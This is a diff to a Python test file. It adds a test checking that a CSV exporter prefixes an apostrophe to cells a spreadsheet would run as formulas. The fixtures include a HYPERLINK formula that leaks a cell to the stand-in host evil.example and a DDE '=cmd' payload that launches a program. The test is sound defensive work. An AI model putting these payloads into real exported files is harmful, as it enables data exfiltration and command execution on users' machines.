@@ -25,6 +25,16 @@ def test_csv_has_a_bom_a_header_and_rfc_4180_quoting():
     assert list(csv.reader(io.StringIO(text[1:])))[1][1] == 'Kata "kutip", koma\ndan baris'
 
 
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_starts_with_an_apostrophe():
+    row = {**ROW, "title": '=HYPERLINK("http://evil.example/?"&A1,"Klik")', "source": "@SUM(1+1)", "place": "+62 media",
+           "url": "-2+3", "officials": ["=cmd|' /C calc'!A0", "Thamrin"]}
+    cells = list(csv.reader(io.StringIO("".join(csv_lines([row]))[1:])))[1]
+    assert cells[1:6] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")", "2022-09-28", "'-2+3", "'@SUM(1+1)",
+                          "'+62 media"]
+    assert cells[7] == "'=cmd|' /C calc'!A0; Thamrin"
+    assert list(jsonl_lines([row])) == [json.dumps(row, ensure_ascii=False) + "\n"]  # JSON keeps every value
+
+
 def test_jsonl_is_one_object_a_line():
     assert list(jsonl_lines([ROW, ROW])) == [json.dumps(ROW, ensure_ascii=False) + "\n"] * 2
 
